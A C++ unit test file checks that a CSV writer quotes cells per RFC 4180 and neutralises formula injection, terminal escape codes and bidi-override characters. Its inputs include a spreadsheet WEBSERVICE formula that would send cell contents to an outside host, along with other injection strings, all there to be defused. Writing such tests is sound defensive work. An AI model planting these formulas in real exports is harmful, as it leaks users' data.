#include <catch2/catch.hpp>

#include "base/csv_text.hpp"

using namespace payout;

namespace {

std::string cell(std::string_view text) {
  std::string out;
  append_csv_text(out, text);
  return out;
}

}  // namespace

TEST_CASE("cells are quoted as RFC 4180 asks", "[csv]") {
  CHECK(cell("plain") == "plain");
  CHECK(cell("").empty());
  CHECK(cell("a,b") == "\"a,b\"");
  CHECK(cell("a\"b") == "\"a\"\"b\"");
  CHECK(cell("付款") == "付款");
}

TEST_CASE("no cell starts a formula", "[csv]") {
  CHECK(cell("=1+1") == "\"'=1+1\"");
  CHECK(cell("+1") == "\"'+1\"");
  CHECK(cell("-1") == "\"'-1\"");
  CHECK(cell("@SUM(A1)") == "\"'@SUM(A1)\"");
  CHECK(cell("＝1") == "\"'＝1\"");
  CHECK(cell("＋1") == "\"'＋1\"");
  CHECK(cell("－1") == "\"'－1\"");
  CHECK(cell("＠x") == "\"'＠x\"");
  CHECK(cell("=WEBSERVICE(\"http://x/\"&A1)") == "\"'=WEBSERVICE(\"\"http://x/\"\"&A1)\"");
  CHECK(cell("\t=1") == "\"'\\x09=1\"");
  CHECK(cell("\r=1") == "\"'\\x0d=1\"");
  CHECK(cell("a=1") == "a=1");
}

TEST_CASE("a record is one line without control characters", "[csv]") {
  CHECK(cell("a\nb") == "a\\x0ab");
  CHECK(cell("\x1b[31m") == "\\x1b[31m");
  CHECK(cell("a\u202Eb") == "a<U+202E>b");
}

TEST_CASE("numbers stay numbers", "[csv]") {
  std::string out;
  CsvWriter csv(out);
  csv.text("txid").text("hours").end_record();
  csv.text("-PO").number("-1.5").number("").text("").end_record();
  CHECK(out == "txid,hours\n\"'-PO\",-1.5,,\n");
}
